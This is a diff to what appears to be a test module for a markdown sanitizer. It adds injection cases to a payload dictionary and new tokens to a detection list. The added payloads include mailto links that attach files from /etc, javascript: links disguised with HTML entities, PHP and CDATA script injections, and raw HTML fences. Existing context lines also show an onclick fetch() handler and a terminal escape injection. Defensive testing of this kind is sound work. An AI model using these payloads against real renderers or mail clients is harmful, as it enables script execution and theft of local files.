@@ -156,6 +156,16 @@ _MARKDOWN = {
     "script link with escaped brackets": f"[x](javascript:a\\){MARKER})",
     "fence that is page": f"```{{=html}}\n{MARKER}\n```",
     "fence that is run": f"~~~ {{r}}\nsystem('{MARKER}')\n~~~",
+    "letter that attaches": f"[x](mailto:a@example.jp?attach=/etc/{MARKER})",
+    "automatic letter that attaches": f"<mailto:a@example.jp?subject=x&amp;attach=/etc/{MARKER}>",
+    "script link by a reference in numbers": f"[x]\n\n[x]: &#x6A;avascript:{MARKER}",
+    "script link by entities of blanks": f"[x](java&NewLine;script:{MARKER}) [y](java&Tab;script:{MARKER})",
+    "script link in a picture": f"[![](x)](javascript:{MARKER})",
+    "embedded note": f"![[{MARKER}]]",
+    "instruction for a page": f"<?php {MARKER} ?>",
+    "data of a page": f"<![CDATA[ <script>{MARKER}</script> ]]>",
+    "comment as a reference": f"[//]: # (<!-- {MARKER} -->)",
+    "directive that is page": f"```{{raw}} html\n{MARKER}\n```",
     "handler in braces": f"[x](https://example.jp/){{: onclick=\"fetch('{URL}')\"}}",
 }
 
@@ -214,6 +224,11 @@ def _attacks() -> Iterator[Attack]:
                 "{=",
                 "{r}",
                 "{:",
+                "](mailto",
+                "<mailto",
+                "{raw}",
+                "<?",
+                "<![",
             ),
         )
     yield Attack("txt in utf-16", lambda: f"{VISIBLE}{_ESC}]0;{MARKER}\x07".encode("utf-16"), "txt")
